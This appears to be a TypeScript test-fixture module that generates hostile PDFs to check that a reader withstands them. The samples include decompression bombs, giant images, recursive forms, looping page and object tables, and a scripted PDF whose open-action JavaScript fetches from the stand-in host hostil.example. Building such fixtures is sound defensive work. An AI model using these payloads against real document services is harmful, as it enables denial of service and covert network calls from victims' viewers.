import { constants, deflateRawSync } from 'node:zlib';

const MEGABYTE = 1 << 20;
const latin = (text: string) => Buffer.from(text, 'latin1');

/** A PDF of objects, which are numbered from 1; the first is its catalogue. */
function toPdf(objects: readonly (string | Buffer)[], trailer = '', startxref?: number): Buffer {
  const parts: Buffer[] = [latin('%PDF-1.7\n')];
  const places: number[] = [];
  let end = 9;
  const add = (part: Buffer) => {
    parts.push(part);
    end += part.length;
  };
  for (const [index, object] of objects.entries()) {
    places.push(end);
    add(Buffer.concat([latin(`${index + 1} 0 obj\n`), Buffer.from(object), latin('\nendobj\n')]));
  }
  const rows = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  const table = end;
  const size = objects.length + 1;
  add(latin(`xref\n0 ${size}\n0000000000 65535 f \n${rows}`));
  add(latin(`trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\n`));
  add(latin(`startxref\n${startxref ?? table}\n%%EOF\n`));
  return Buffer.concat(parts);
}

const toStream = (entries: string, data: Buffer) =>
  Buffer.concat([
    latin(`<< ${entries} /Length ${data.length} >>\nstream\n`),
    data,
    latin('\nendstream'),
  ]);

const ADLER = 65_521;

/** The sum at the end of a packed text (Adler-32), for a text that is repeated. */
function sumOf(text: Buffer, times: number): Buffer {
  let [sum, sums] = [0, 0];
  for (const byte of text) {
    sum = (sum + byte) % ADLER;
    sums = (sums + sum) % ADLER;
  }
  let [low, high] = [1, 0];
  for (let time = 0; time < times; time++) {
    high = (high + low * (text.length % ADLER) + sums) % ADLER;
    low = (low + sum) % ADLER;
  }
  const bytes = Buffer.alloc(4);
  bytes.writeUInt16BE(high);
  bytes.writeUInt16BE(low, 2);
  return bytes;
}

/** A packed text that is unpacked to this one, many times. */
function packed(text: Buffer, times: number): Buffer {
  const block = deflateRawSync(text, { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const blocks = Array<Buffer>(times).fill(block);
  return Buffer.concat([latin('\x78\x9c'), ...blocks, latin('\x03\0'), sumOf(text, times)]);
}

const FLATE = '/Filter /FlateDecode';
const CATALOGUE = '<< /Type /Catalog /Pages 2 0 R >>';
const ONE_PAGE = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const PAGE =
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /R 5 0 R >> /XObject << /X 6 0 R >> >> >>';
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>';

const onePage = (contents: Buffer, object: string | Buffer = 'null', trailer = '') =>
  toPdf([CATALOGUE, ONE_PAGE, PAGE, contents, FONT, object], trailer);
const tree = (kids: string, count: number) => `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`;
const written = (lines: readonly string[]) =>
  toStream(
    '',
    latin(
      `BT /R 9 Tf 12 TL 40 760 Td ${lines.map((line) => `(${line.replace(/[()]/g, '\\$&')}) Tj T*`).join('\n')} ET`,
    ),
  );

/** Files that a reader must survive. Each is made when it is asked for. */
export const hostilePdfs = {
  /** One megabyte that is unpacked to a gigabyte of nothing. */
  bomb: () => onePage(toStream(FLATE, packed(Buffer.alloc(MEGABYTE), 1024))),
  /** The same, packed twice. */
  doubleBomb: () =>
    onePage(
      toStream(
        '/Filter [/FlateDecode /FlateDecode]',
        packed(packed(Buffer.alloc(MEGABYTE), 8192), 1),
      ),
    ),
  /** Forty million letters. */
  letters: () =>
    onePage(toStream(FLATE, packed(latin('BT /R 9 Tf 1 1 Td (A) Tj ET '.repeat(1 << 17)), 300))),
  /** Eighty million lines to draw, and not a letter. */
  lines: () => onePage(toStream(FLATE, packed(latin('0 0 m 9 9 l S '.repeat(1 << 18)), 300))),
  /** A picture of 900 million pixels. */
  picture: () =>
    onePage(
      toStream('', latin('q 600 0 0 700 0 0 cm /X Do Q')),
      toStream(
        `/Type /XObject /Subtype /Image /Width 30000 /Height 30000 /ColorSpace /DeviceGray /BitsPerComponent 8 ${FLATE}`,
        packed(Buffer.alloc(30_000_000), 30),
      ),
    ),
  /** A page as large as a town. */
  wall: () =>
    toPdf([CATALOGUE, ONE_PAGE, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9000000 9000000] >>']),
  manyPages: () =>
    toPdf([
      CATALOGUE,
      tree(Array.from({ length: 500 }, (_, index) => `${index + 3} 0 R`).join(' '), 500),
      ...Array<string>(500).fill('<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>'),
    ]),
  /** Says that it has two billion pages. */
  wrongCount: () => toPdf([CATALOGUE, tree('3 0 R', 2_147_483_647), PAGE, written([]), FONT]),
  /** The tree of its pages leads back to itself. */
  loop: () => toPdf([CATALOGUE, tree('2 0 R', 1)]),
  /** The table of its objects leads back to itself. */
  tableLoop: () => toPdf([CATALOGUE, tree('2 0 R', 1)], '/Prev 0 /XRefStm 0', 9),
  /** Each form draws the next one twenty times, so the page draws 20 to the power of 20. */
  forms: () =>
    toPdf([
      CATALOGUE,
      ONE_PAGE,
      PAGE,
      toStream('', latin('/X Do')),
      FONT,
      ...Array.from({ length: 20 }, (_, index) =>
        toStream(
          `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X ${index + 7} 0 R >> >>`,
          latin('/X Do '.repeat(20)),
        ),
      ),
      toStream('/Type /XObject /Subtype /Form /BBox [0 0 9 9]', latin('0 0 m 9 9 l S')),
    ]),
  /** Thirty thousand levels of pages. */
  deepTree: () =>
    toPdf([
      CATALOGUE,
      ...Array.from({ length: 30_000 }, (_, index) => tree(`${index + 3} 0 R`, 1)),
      '<< /Type /Page /MediaBox [0 0 9 9] >>',
    ]),
  /** Two million open brackets. */
  brackets: () => toPdf([CATALOGUE, `<< /Type /Pages /Kids ${'['.repeat(2 * MEGABYTE)}`]),
  /** Needs a password. */
  locked: () =>
    onePage(
      written([]),
      `<< /Filter /Standard /V 1 /R 2 /P -4 /O <${'ab'.repeat(32)}> /U <${'cd'.repeat(32)}> >>`,
      '/Encrypt 6 0 R /ID [<00> <00>]',
    ),
  empty: () => Buffer.alloc(0),
  text: () => latin('Constancia de Situación Fiscal, pero en texto.\n'.repeat(1000)),
  /** Only begins like one. */
  cutOff: () => latin('%PDF-1.7\n1 0 obj\n<< /Type /Catalog'),
  /** Twenty megabytes of objects. */
  large: () => latin(`%PDF-1.7\n${'1 0 obj\n<<>>\nendobj\n'.repeat(MEGABYTE)}`),
} satisfies Record<string, () => Buffer>;

/** A document whose script and actions would run, load and send when it is opened. */
export const scriptedPdf = (lines: readonly string[]): Buffer =>
  toPdf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> /Names << /JavaScript << /Names [(x) 6 0 R] >> >> >>`,
    ONE_PAGE,
    PAGE.replace(' /XObject << /X 6 0 R >>', '').replace(
      '/Contents',
      '/AA << /O 7 0 R >> /Contents',
    ),
    written(lines),
    FONT,
    '<< /S /JavaScript /JS (app.alert\\(1\\); fetch\\("https://hostil.example/js"\\); globalThis.stolen = 1;) >>',
    '<< /S /URI /URI (https://hostil.example/uri) >>',
  ]);

/** A document whose table of objects is somewhere else. */
export const brokenTablePdf = (lines: readonly string[]): Buffer =>
  toPdf([CATALOGUE, ONE_PAGE, PAGE, written(lines), FONT, 'null'], '', 99_999_999);
